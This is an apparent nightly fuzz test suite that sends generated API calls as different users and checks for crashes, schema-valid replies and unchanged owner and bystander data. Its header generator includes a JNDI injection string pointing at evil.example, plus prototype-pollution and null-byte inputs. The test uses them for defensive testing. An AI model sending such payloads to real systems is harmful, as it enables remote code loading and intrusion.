// @module-tag nightly: the schemas that it tries to get past are tested call by call
import { FailureSchema, MemberStatus, Role, sanitize } from '@portico/stores/contract'
import * as fc from 'fast-check'
import { sql } from 'kysely'
import { setTimeout as sleep } from 'node:timers/promises'
import * as v from 'valibot'
import { describe, expect, it } from 'vitest'
import { sanitizing, validationLengths } from '../account/config.ts'
import { addressPartOf, bodiesOf, ODD_BODIES } from '../testing/arbitraries.ts'
import { onBothDatabases } from '../testing/bothDatabases.ts'
import { ADMIN, OWNER, USER } from '../testing/fixtures.ts'
import type { Reply } from '../testing/httpClient.ts'
import { isThorough } from '../testing/thorough.ts'
import { payingFixture } from '../testing/stripeFixture.ts'
import { attemptsOf } from './attempts.fixture.ts'
import { entryOf, methodAndPath, type Signature, SIGNATURES } from './calls/index.ts'

const RUNS = isThorough ? 10_000 : 308
const RUNS_OF_CALL = Math.ceil(RUNS / SIGNATURES.length)
const TIMEOUT_MS = isThorough ? 3_600_000 : 240_000
/** No call takes this long, even on a slow machine. */
const HANGING_MS = 60_000

const TAGS = [...new Set(SIGNATURES.map((signature) => entryOf(signature).tag))]

const CALLER_NAMES = [
  'owner@northwind',
  'admin@northwind',
  'user@northwind',
  'owner@bluefin',
  'workspace',
  'nobody',
] as const
type Caller = (typeof CALLER_NAMES)[number]

const BodySchema = v.pipe(
  v.string(),
  v.parseJson(),
  v.union([v.object({ data: v.unknown() }), FailureSchema]),
)

interface Attempt {
  readonly who: Caller
  readonly parts: readonly string[]
  readonly query: string
  readonly body: string
  readonly headers: Readonly<Record<string, string>>
}

const callsOf = (examples: readonly unknown[], known: readonly string[]): fc.Arbitrary<Attempt> => {
  const part = addressPartOf(known)
  return fc.record<Attempt>({
    who: fc.constantFrom(...CALLER_NAMES),
    parts: fc.array(part, { minLength: 2, maxLength: 2 }),
    query: fc.oneof(
      { weight: 3, arbitrary: fc.constant('') },
      fc
        .tuple(fc.constantFrom('since', 'serviceid', 'lang', '__proto__', 'a[]'), part)
        .map(([name, value]) => `?${name}=${value}`),
    ),
    body: bodiesOf(examples, known),
    headers: fc.oneof(
      { weight: 5, arbitrary: fc.constant({}) },
      fc.constantFrom<Readonly<Record<string, string>>>(
        { 'Content-Type': 'text/plain' },
        { 'Content-Type': 'application/json; charset=utf-16' },
        { 'If-None-Match': '"x", W/"y", *' },
        { 'Accept-Language': '*;q=x,en-US-u-co-\u00FF' },
        { 'X-Request-Id': '${jndi:ldap://evil.example}' },
        { Cookie: 'portico_device=%00; =;;' },
      ),
    ),
  })
}

describe('generated bodies', { timeout: TIMEOUT_MS }, () => {
  onBothDatabases('end in an answer, and write nothing past a rule,', (open) => {
    const fixture = payingFixture(open)
    const { call, db, list, logIn, reset } = fixture
    const { bodiesOf: exampleBodiesOf } = attemptsOf(fixture)
    const tokens = new Map<Caller, string>()

    const ownersOf = () =>
      db()
        .selectFrom('members')
        .select(['email', 'status', 'level'])
        .where('level', '>=', Role.owner)
        .orderBy('email')
        .execute()
    /** Accounts that no call uses. */
    const bystanders = async (): Promise<unknown> =>
      (
        await sql`
          select md5(string_agg(line, '|' order by line)) from (
            select members::text as line from members where account_id in ('1002', '1003')
            union all select workspaces::text from workspaces where account_id in ('1002', '1003')
            union all select subscriptions::text from subscriptions where account_id in ('1002', '1003')
          ) as lines
        `.execute(db())
      ).rows

    let begun: { readonly owners: unknown; readonly others: unknown } = { owners: null, others: null }
    const begin = async (): Promise<void> => {
      begun = { owners: await ownersOf(), others: await bystanders() }
    }
    const expectRulesSatisfied = async (): Promise<void> => {
      expect(await ownersOf()).toEqual(begun.owners)
      expect(await bystanders()).toEqual(begun.others)
      const { rows: full } = await sql`
        select account_id from members join subscriptions using (account_id)
        group by account_id, users having count(*) > users
      `.execute(db())
      expect(full).toEqual([])
      const { firstName, lastName } = validationLengths.user
      for (const { first_name, last_name } of await db().selectFrom('members').selectAll().execute()) {
        expect([first_name, last_name]).toEqual(
          [first_name, last_name].map((name) => sanitize(name, sanitizing)),
        )
        expect(first_name.length).toBeLessThanOrEqual(firstName.max)
        expect(last_name.length).toBeLessThanOrEqual(lastName.max)
      }
    }

    /** Generated calls sign out, lock and remove users. */
    const sessionOf = async (who: Caller): Promise<{ readonly token?: string }> => {
      if (who === 'workspace') return { token: await fixture.workspaceKey() }
      if (who === 'nobody') return {}
      const known = tokens.get(who)
      if (known !== undefined && (await call('/api/auth/userdata', { token: known })).status === 200)
        return { token: known }
      const accountId = who === 'owner@bluefin' ? '1001' : '4821'
      const email = `${who}.example`
      let reply = await logIn(accountId, email)
      if (reply.status !== 200) {
        await expectRulesSatisfied()
        await reset()
        await begin()
        tokens.clear()
        reply = await logIn(accountId, email)
      }
      const { token } = reply.data(v.object({ token: v.string() }))
      tokens.set(who, token)
      return { token }
    }

    const send = async (
      signature: Signature,
      { who, parts, query, body, headers }: Attempt,
    ): Promise<Reply> => {
      const session = await sessionOf(who)
      const [method, template] = methodAndPath(signature)
      const rest = [...parts]
      const path = template.replaceAll(/\{\w+\}/g, () => rest.shift() ?? 'x')
      const hasBody = method !== 'GET' && body !== ''
      const reply = call(`/api${path}${query}`, { method, ...session, headers, ...(hasBody ? { body } : {}) })
      const late = sleep(HANGING_MS, null, { ref: false })
      const answered = await Promise.race([reply, late])
      if (answered === null) throw new Error('The call hangs')
      return answered
    }

    it('also for invalid or unexpected JSON', async () => {
      await begin()
      const attempt = { parts: ['x'], query: '', headers: {} } as const
      for (const body of ODD_BODIES) {
        const replies = [
          await send('POST /auth/login', { ...attempt, who: 'nobody', body }),
          await send('PUT /services/{id}', { ...attempt, who: 'owner@northwind', body }),
        ]
        for (const [index, { status, text }] of replies.entries()) {
          const isTooLarge = body.length > (index === 0 ? 8 * 1024 : 4.9e6)
          expect([body.slice(0, 50), status]).toEqual([body.slice(0, 50), isTooLarge ? 413 : 400])
          v.parse(FailureSchema, JSON.parse(text))
        }
      }
    })

    it.each(TAGS)('of %s', async (tag) => {
      const signatures = SIGNATURES.filter((one) => entryOf(one).tag === tag)
      const examples = new Map<Signature, readonly unknown[]>()
      for (const signature of signatures.filter((one) => entryOf(one).request)) {
        examples.set(signature, await exampleBodiesOf(signature))
        await reset()
      }
      tokens.clear()
      await begin()
      expect((await ownersOf()).every(({ status }) => status === MemberStatus.active)).toBe(true)
      const workspaces = [...(await list('owner@northwind')), ...(await list('owner@bluefin'))].map(
        ({ id }) => id,
      )
      const known = [...workspaces.slice(0, 4), workspaces.at(-1) ?? '', '4821', '1001', OWNER, ADMIN, USER]
      for (const signature of signatures) {
        const answers = fc.asyncProperty(callsOf(examples.get(signature) ?? [], known), async (attempt) => {
          const reply = await send(signature, attempt)
          expect(reply.status).toBeLessThan(500)
          if (reply.status !== 304) v.parse(BodySchema, reply.text)
        })
        await fc.assert(answers, { numRuns: RUNS_OF_CALL })
      }
      await expectRulesSatisfied()
    })
  })
})
